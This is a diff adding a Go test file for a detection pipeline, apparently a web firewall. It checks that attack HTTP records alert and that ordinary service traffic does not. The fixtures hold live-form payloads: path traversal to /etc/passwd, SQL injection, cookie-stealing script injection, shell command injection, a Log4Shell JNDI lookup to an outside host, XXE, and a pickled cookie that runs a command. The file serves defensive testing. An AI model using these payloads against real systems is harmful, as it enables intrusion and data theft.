@@ -1,0 +1,140 @@
+package pipeline
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func confident(t *testing.T, properties ...string) *Pipeline {
+	t.Helper()
+	p, _ := newPipeline(t, append([]string{"mapping=nano", "alert_when=confidence"}, properties...)...)
+	return p
+}
+
+// exchange is a Nano record.
+func exchange(method, uri, kind, body string, more ...string) map[string]string {
+	head := method + " " + uri + " HTTP/1.1\r\nHost: shop.internal\r\nUser-Agent: okhttp/4.12.0\r\nAccept: */*\r\n"
+	if kind != "" {
+		head += fmt.Sprintf("Content-Type: %s\r\nContent-Length: %d\r\n", kind, len(body))
+	}
+	r := map[string]string{
+		"METHOD": method, "URL": uri, "DOMAIN": "shop.internal", "SRC_IP": "10.1.0.7", "DST_IP": "10.2.0.9", "SRC_PORT": "40112", "DST_PORT": "8080", "RETCODE": "200",
+		"REQ_BODY": body, "RSP_HEADER": "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n",
+	}
+	for _, m := range more {
+		if answer, ok := strings.CutPrefix(m, "answer: "); ok {
+			r["RSP_BODY"] = answer
+		} else {
+			head += m + "\r\n"
+		}
+	}
+	r["REQ_HEADER"] = head + "\r\n"
+	return r
+}
+
+const jsonType = "application/json"
+
+// Attacks that a record shows plainly alarm, in whatever encoding and place.
+func TestConfidenceOfAttacks(t *testing.T) {
+	p := confident(t, "rules=crs,lateral-movement,sensitive-data")
+	for name, record := range map[string]map[string]string{
+		"traversal":               exchange("GET", "/get?file=../../../../etc/passwd", "", ""),
+		"traversal in base64":     exchange("GET", "/get?file=Li4vLi4vLi4vZXRjL3NoYWRvdw", "", ""),
+		"traversal, overlong":     exchange("GET", "/get?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "", ""),
+		"traversal, lost bytes":   exchange("POST", "/get", jsonType, `{"file":"..`+"\ufffd\ufffd..\ufffd\ufffd"+`etc`+"\ufffd\ufffd"+`passwd"}`),
+		"SQL in the path":         exchange("GET", "/items/1'%20union%20select%20card%20from%20payments--%20/show", "", ""),
+		"SQL in JSON":             exchange("POST", "/login", jsonType, `{"user":"admin' or '1'='1' -- ","password":"x"}`),
+		"script":                  exchange("GET", "/hello?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", ""),
+		"command in a header":     exchange("GET", "/", "", "", "X-Customer: a;cat /etc/passwd"),
+		"command in a form":       exchange("POST", "/ping", "application/x-www-form-urlencoded", "host=127.0.0.1;id"),
+		"log4shell":               exchange("GET", "/", "", "", "X-Api-Version: ${jndi:ldap://10.9.9.9:1389/a}"),
+		"template":                exchange("POST", "/render", jsonType, `{"text":"{{7*7}}"}`),
+		"web shell's answer":      exchange("GET", "/up/a.php?q=1", "", "", "answer: uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
+		"passwd in the answer":    exchange("GET", "/get?id=3", "", "", "answer: root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/usr/sbin/nologin\n"),
+		"serialized in a cookie":  exchange("GET", "/", "", "", "Cookie: s=Y29zCnN5c3RlbQooUydpZCcKdFIu", "answer: uid=0(root) gid=0(root)\n"),
+		"double escaped script":   exchange("GET", "/a?x=%25253Cscript%25253Ealert(1)%25253C/script%25253E", "", ""),
+		"SQL in a cookie's JSON":  exchange("GET", "/", "", "", `Cookie: prefs={"sort":"1' UNION SELECT password FROM users -- "}`),
+		"traversal in the path":   exchange("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "", ""),
+		"external entity in JSON": exchange("POST", "/x", jsonType, `{"doc":"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"}`),
+	} {
+		t.Run(name, func(t *testing.T) {
+			if got := alertsOf(t, p, record); len(got) != 1 {
+				t.Errorf("%d alerts", len(got))
+			}
+		})
+	}
+}
+
+// What services send each other all day does not, though rules match on it.
+func TestConfidenceOfOrdinaryTraffic(t *testing.T) {
+	p := confident(t, "rules=crs,lateral-movement,sensitive-data")
+	for name, record := range map[string]map[string]string{
+		"PUT":             exchange("PUT", "/api/carts/17", jsonType, `{"items":3}`),
+		"PATCH":           exchange("PATCH", "/api/carts/17", "application/merge-patch+json", `{"items":4}`),
+		"method override": exchange("POST", "/api/posts/3", jsonType, `{"title":"Hello"}`, "X-HTTP-Method-Override: PUT"),
+		"PromQL":          exchange("GET", "/api/v1/query?query="+url.QueryEscape(`sum(up{job="web"}) unless on(pod) kube_pod_info`), "", ""),
+		"editor":          exchange("POST", "/wp-json/wp/v2/posts", jsonType, `{"content":"<!-- wp:heading -->\n<h2>Spring</h2>\n<!-- /wp:heading -->"}`),
+		"CI step":         exchange("POST", "/job/site/config", jsonType, `{"steps":[{"run":"npm ci && npm test"}]}`),
+		"CSV":             exchange("PUT", "/export/a.csv", "text/csv", "id,name\n7,Siobhan O'Hara\n"),
+		"policy report":   exchange("POST", "/csp", "application/csp-report", `{"csp-report":{"violated-directive":"script-src","script-sample":"alert(2)"}}`),
+		"name":            exchange("GET", "/theme?id=select-dark-union", "", ""),
+		"O'Brien":         exchange("POST", "/contact", "application/x-www-form-urlencoded", "name=Pat+O%27Brien&text=Where+is+my+order%3F"),
+		"consent cookie":  exchange("GET", "/", "", "", `Cookie: consent={stamp:%27a1b2==%27%2Cnecessary:true}; _ga=GA1.2.1234.5678`),
+		"picture":         exchange("POST", "/media", "image/png", "\x89PNG\r\n\x1a\n\x00\x00"),
+	} {
+		t.Run(name, func(t *testing.T) {
+			if got := alertsOf(t, p, record); len(got) != 0 {
+				t.Errorf("alarms: %v", got)
+			}
+		})
+	}
+}
+
+// alertsOf are the alerts of one record.
+func alertsOf(t *testing.T, p *Pipeline, record map[string]string) []map[string]any {
+	t.Helper()
+	text, err := json.Marshal(record)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return read(t, p.Process("t", newEvent(1, jsonRecord(t, string(text)))))
+}
+
+// The model says nothing by fixed strings of what it was made from: other names of hosts, agents and parameters make no
+// difference that decides.
+func TestConfidenceOfOtherNames(t *testing.T) {
+	p := confident(t, "rules=crs,lateral-movement,sensitive-data")
+	for _, name := range []string{"p", "q", "search_term", "X", "filter"} {
+		for _, agent := range []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:105.0) Gecko/20100101 Firefox/105.0", "axios/1.7", "probe"} {
+			record := exchange("GET", "/a?"+name+"=%27%20or%201%3D1%20--%20-", "", "")
+			record["REQ_HEADER"] = strings.NewReplacer("okhttp/4.12.0", agent, "shop.internal", "h"+name).Replace(record["REQ_HEADER"])
+			if got := alertsOf(t, p, record); len(got) != 1 {
+				t.Errorf("parameter %s by %s: %d alerts", name, agent, len(got))
+			}
+		}
+	}
+}
+
+// A rule of the user's alarms whatever the model says, and what is too little evidence is counted by rule.
+func TestConfidenceAndOwnRules(t *testing.T) {
+	own := filepath.Join(t.TempDir(), "own.conf")
+	if err := os.WriteFile(own, []byte(`SecRule ARGS:q "@streq zebra" "id:1,phase:2,log,pass,msg:'zebra'"`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	p := confident(t, "rules=crs,"+own)
+	if got := alertsOf(t, p, exchange("GET", "/?q=zebra", "", "")); len(got) != 1 || got[0]["rule_id"] != "1" {
+		t.Errorf("got %v", got)
+	}
+	p = confident(t, "min_confidence=100")
+	if got := alertsOf(t, p, exchange("GET", "/?q=a%27%20or%20b%3Dc", "", "")); len(got) != 0 {
+		t.Errorf("got %v", got)
+	}
+	if n := p.Snapshot().BelowConfidence; len(n) == 0 {
+		t.Error("nothing is counted")
+	}
+}
